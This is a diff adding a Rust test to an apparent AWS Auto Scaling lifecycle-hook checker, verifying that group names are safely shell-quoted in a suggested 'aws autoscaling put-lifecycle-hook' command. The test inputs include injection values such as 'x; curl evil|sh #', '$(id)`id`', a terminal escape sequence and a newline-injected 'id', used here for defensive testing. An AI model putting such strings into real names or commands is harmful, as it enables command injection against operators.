@@ -48,6 +48,21 @@ fn a_group_without_a_hook_of_ours_is_found() {
     assert_eq!(found(group(&[hook("other")]), &[("SPILLWAY_HOOKS", "spillway")]), missing);
 }
 
+/// Auto Scaling takes any printable character in a group's name.
+#[test]
+fn a_groups_name_is_one_word_of_the_command() {
+    let named = |name: &str| Group { name: name.to_owned(), ..group(&[]) };
+    let command = |name: &str| check(named(name), &[]).findings.remove(0).command;
+    let of = |name: &str| command(name).unwrap().split(" --lifecycle").next().unwrap().to_owned();
+    let put = "aws autoscaling put-lifecycle-hook --auto-scaling-group-name";
+    assert_eq!(of("workers-a_1.x/y"), format!("{put} workers-a_1.x/y"));
+    assert_eq!(of("x; curl evil|sh #"), format!("{put} 'x; curl evil|sh #'"));
+    assert_eq!(of("$(id)`id`"), format!("{put} '$(id)`id`'"));
+    assert_eq!(of("it's"), format!("{put} 'it'\"'\"'s'"));
+    assert_eq!(command("x\u{1b}]52;c;evil\u{7}"), None, "a terminal would not show it");
+    assert_eq!(command("x\nid"), None);
+}
+
 #[test]
 fn a_group_whose_nodes_are_not_drained_for_its_hooks_needs_none() {
     assert_eq!(found(group(&[]), &[("SPILLWAY_MANAGED_TAG", "team=kitchen")]), []);
